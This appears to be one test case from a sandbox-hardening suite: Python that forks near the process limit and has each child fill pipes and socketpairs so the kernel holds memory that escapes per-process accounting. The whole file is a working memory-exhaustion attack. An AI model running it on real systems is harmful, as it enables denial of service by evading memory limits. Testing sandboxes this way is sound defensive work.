"""Leaves data in pipes and pairs of sockets, where the kernel keeps it for nobody in particular.

It is in no process and in no file, so neither counts it.
"""

import contextlib
import fcntl
import os
import socket
import time

EXPECT = {"out_of_memory", "stopped"}
BARE = {"escaped", "stopped"}  # the kernel has a budget of pipes for each user, and none for sockets


def fill():
    kept, held = [], 0
    with contextlib.suppress(OSError):
        while True:
            if len(kept) % 4:
                pair = socket.socketpair()
                pair[1].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                ends = [side.detach() for side in pair]
            else:
                ends = os.pipe()
                fcntl.fcntl(ends[1], fcntl.F_SETPIPE_SZ, 1 << 20)
            kept.append(ends)
            os.set_blocking(ends[1], False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    held += os.write(ends[1], b"x" * 65536)
    return held


def attack(target):
    reader, writer = os.pipe()
    many = target.most_processes - 6
    for _ in range(many):
        if os.fork() == 0:
            os.write(writer, fill().to_bytes(8, "big"))
            time.sleep(5)
            os._exit(0)
    os.close(writer)
    held = sum(int.from_bytes(os.read(reader, 8), "big") for _ in range(many))
    return held > target.memory and f"{held >> 20} MiB"
